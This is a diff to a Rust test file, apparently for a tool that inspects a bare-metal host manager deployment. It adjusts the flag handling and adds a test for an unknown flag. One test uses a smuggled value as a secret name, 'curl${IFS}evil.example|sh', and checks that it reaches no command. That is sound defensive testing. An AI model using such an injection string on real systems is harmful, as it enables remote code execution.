@@ -214,7 +214,7 @@ async fn what_a_dry_run_cannot_see_is_not_known_and_not_nothing() {
 async fn live_installation(endpoint: &str, login: &str, secret: &str) -> TestCluster {
     let world = TestCluster::empty().await;
     world.cluster.install(&catalog::definitions()).unwrap();
-    go_host_manager(&world, endpoint, login, "--no-such-flag").await;
+    go_host_manager(&world, endpoint, login, "--dev").await;
     world.create::<Secret>(json!({ "metadata": { "name": "bmc" } })).await;
     let bmc = json!({ "address": "redfish://192.0.2.1/x", "credentialsName": secret });
     let host = json!({ "metadata": { "name": "new" }, "spec": { "online": false, "bmc": bmc } });
@@ -302,23 +302,33 @@ async fn cluster_api_without_the_version_that_is_read_stops_the_switch() {
     }
 }
 
-/// The manifests of the Go manager as they are: an Ironic without a login, and a flag that this program refuses.
+/// The manifests of the Go manager as they are: an Ironic without a login, and a flag that does nothing here.
 #[tokio::test(start_paused = true)]
 async fn stock_installation_can_be_switched_and_a_hostile_name_reaches_no_command() {
     let hostile = "bmc?x&curl${IFS}evil.example|sh;";
     let world = live_installation("http://172.22.0.2:6385/v1/", "/tmp/cert", hostile).await;
     let (text, code) = answer(&world, "").await;
     assert_eq!(code, 0, "{text}");
-    assert!(
-        text.contains("--no-such-flag:") && text.contains("do not copy"),
-        "{text}"
-    );
+    assert!(text.contains("--dev does nothing"), "{text}");
     assert!(!text.contains("evil.example"), "{text}");
     let audit = world.cluster.audit();
     let mut of_secrets = audit
         .counts()
         .filter(|((user, _, resource), _)| user == "user" && resource.contains("secrets"));
     assert_eq!(of_secrets.next(), None, "no Secret of such a name is asked for");
+}
+
+/// It may be one of a fork that serves some objects only.
+#[tokio::test(start_paused = true)]
+async fn flag_that_no_go_manager_has_is_named_and_makes_the_decision_unknown() {
+    let world = TestCluster::empty().await;
+    world.cluster.install(&catalog::definitions()).unwrap();
+    go_host_manager(&world, "https://192.0.2.9:6385", LOGIN, "--label-selector=a=b").await;
+    let (text, code) = answer(&world, "").await;
+    assert_eq!(code, 5, "{text}");
+    let unknown =
+        format!("Not read: what --label-selector of Deployment {PLACE}/baremetal-operator-controller-manager does");
+    assert!(text.contains(&unknown) && text.contains("do not copy"), "{text}");
 }
 
 #[tokio::test(start_paused = true)]
